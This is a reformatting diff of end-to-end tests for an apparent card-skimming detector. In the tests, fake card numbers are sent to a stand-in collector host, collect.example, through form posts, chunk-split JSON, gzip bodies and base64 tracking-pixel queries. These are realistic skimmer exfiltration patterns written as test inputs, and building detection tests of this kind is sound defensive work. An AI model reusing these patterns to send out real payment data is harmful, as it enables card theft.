@@ -100,38 +100,35 @@ TEST_F(EndToEnd, EveryWayOutIsFoundAndNothingElse) {
     return absl::StrCat(R"({"cardNumber":")", CardNumber(card), R"(","expiry":"12/29"})");
   };
   const int outside = web_.outside_port();
-  EXPECT_THAT(Exchange(outside,
-                       Post("collect.example", "/form",
-                            "card_number=" + CardNumber(kForm) + "&exp=12%2F29",
-                            "Content-Type: application/x-www-form-urlencoded\r\n"),
-                       &wire_bytes),
-              HasSubstr(" 204 "));
-  // The number straddles two chunks.
-  const std::string body = json(kChunked);
   EXPECT_THAT(
       Exchange(outside,
-               absl::StrCat("POST /chunked HTTP/1.1\r\nHost: collect.example\r\n"
-                            "Connection: close\r\nTransfer-Encoding: chunked\r\n"
-                            "Content-Type: application/json\r\n\r\n",
-                            "14\r\n", body.substr(0, 20), "\r\n",
-                            absl::StrFormat("%x", body.size() - 20), "\r\n", body.substr(20),
-                            "\r\n0\r\n\r\n"),
+               Post("collect.example", "/form", "card_number=" + CardNumber(kForm) + "&exp=12%2F29",
+                    "Content-Type: application/x-www-form-urlencoded\r\n"),
                &wire_bytes),
       HasSubstr(" 204 "));
+  // The number straddles two chunks.
+  const std::string body = json(kChunked);
+  EXPECT_THAT(Exchange(outside,
+                       absl::StrCat("POST /chunked HTTP/1.1\r\nHost: collect.example\r\n"
+                                    "Connection: close\r\nTransfer-Encoding: chunked\r\n"
+                                    "Content-Type: application/json\r\n\r\n",
+                                    "14\r\n", body.substr(0, 20), "\r\n",
+                                    absl::StrFormat("%x", body.size() - 20), "\r\n",
+                                    body.substr(20), "\r\n0\r\n\r\n"),
+                       &wire_bytes),
+              HasSubstr(" 204 "));
   EXPECT_THAT(Exchange(outside,
                        Post("collect.example", "/gzipped", Gzip(json(kGzipped)),
                             "Content-Type: application/json\r\nContent-Encoding: gzip\r\n"),
                        &wire_bytes),
               HasSubstr(" 204 "));
-  EXPECT_THAT(
-      Exchange(outside,
-               Get("collect.example",
-                   "/pixel.gif?d=" + absl::WebSafeBase64Escape("card=" + CardNumber(kQuery))),
-               &wire_bytes),
-      HasSubstr(" 204 "));
-  EXPECT_THAT(
-      Exchange(web_.shop_port(), Get("shop.example", "/receipt.html"), &wire_bytes),
-      HasSubstr(" 200 "));
+  EXPECT_THAT(Exchange(outside,
+                       Get("collect.example", "/pixel.gif?d=" + absl::WebSafeBase64Escape(
+                                                                    "card=" + CardNumber(kQuery))),
+                       &wire_bytes),
+              HasSubstr(" 204 "));
+  EXPECT_THAT(Exchange(web_.shop_port(), Get("shop.example", "/receipt.html"), &wire_bytes),
+              HasSubstr(" 200 "));
   EXPECT_THAT(Exchange(web_.processor_port(),
                        Post("api.processor.example", "/v1/charges", json(kProcessor)), &wire_bytes),
               HasSubstr("approved"));
@@ -147,9 +144,8 @@ TEST_F(EndToEnd, EveryWayOutIsFoundAndNothingElse) {
   EXPECT_TRUE(testing::WaitUntil([&] {
     page = deployment_.AgentGet("/metrics");
     const std::vector<v1::Agent> agents = deployment_.Agents();
-    return agents.size() == 1 &&
-           static_cast<double>(agents[0].coverage().seen_bytes()) ==
-               SumOf(page, "skimwatch_source_bytes_total");
+    return agents.size() == 1 && static_cast<double>(agents[0].coverage().seen_bytes()) ==
+                                     SumOf(page, "skimwatch_source_bytes_total");
   }));
   const v1::Coverage coverage = deployment_.Agents().at(0).coverage();
   EXPECT_EQ(coverage.seen_bytes(), coverage.scanned_bytes() + coverage.sampled_out_bytes() +
@@ -224,8 +220,8 @@ TEST_F(EndToEnd, RepeatsAreFoldedAndAllCounted) {
 }
 
 TEST_F(EndToEnd, SamplingKeepsWholeFlowsAndTheEstimateIsRight) {
-  deployment_.agent_yaml = absl::StrCat("sources:\n  ", CaptureYaml(),
-                                        "\nsampling: { flow_ratio: 0.5 }\n");
+  deployment_.agent_yaml =
+      absl::StrCat("sources:\n  ", CaptureYaml(), "\nsampling: { flow_ratio: 0.5 }\n");
   ASSERT_NO_FATAL_FAILURE(deployment_.StartAgentAndWait());
   // Each flow carries two cards in two requests.
   constexpr size_t kFlows = 400;
@@ -234,8 +230,8 @@ TEST_F(EndToEnd, SamplingKeepsWholeFlowsAndTheEstimateIsRight) {
     for (const size_t card : {2 * flow, 2 * flow + 1}) {
       const std::string body = "card=" + CardNumber(card);
       absl::StrAppend(&requests, "POST /form HTTP/1.1\r\nHost: collect.example\r\n",
-                      card % 2 == 1 ? "Connection: close\r\n" : "",
-                      "Content-Length: ", body.size(), "\r\n\r\n", body);
+                      card % 2 == 1 ? "Connection: close\r\n" : "", "Content-Length: ", body.size(),
+                      "\r\n\r\n", body);
     }
     Exchange(web_.outside_port(), requests);
   }
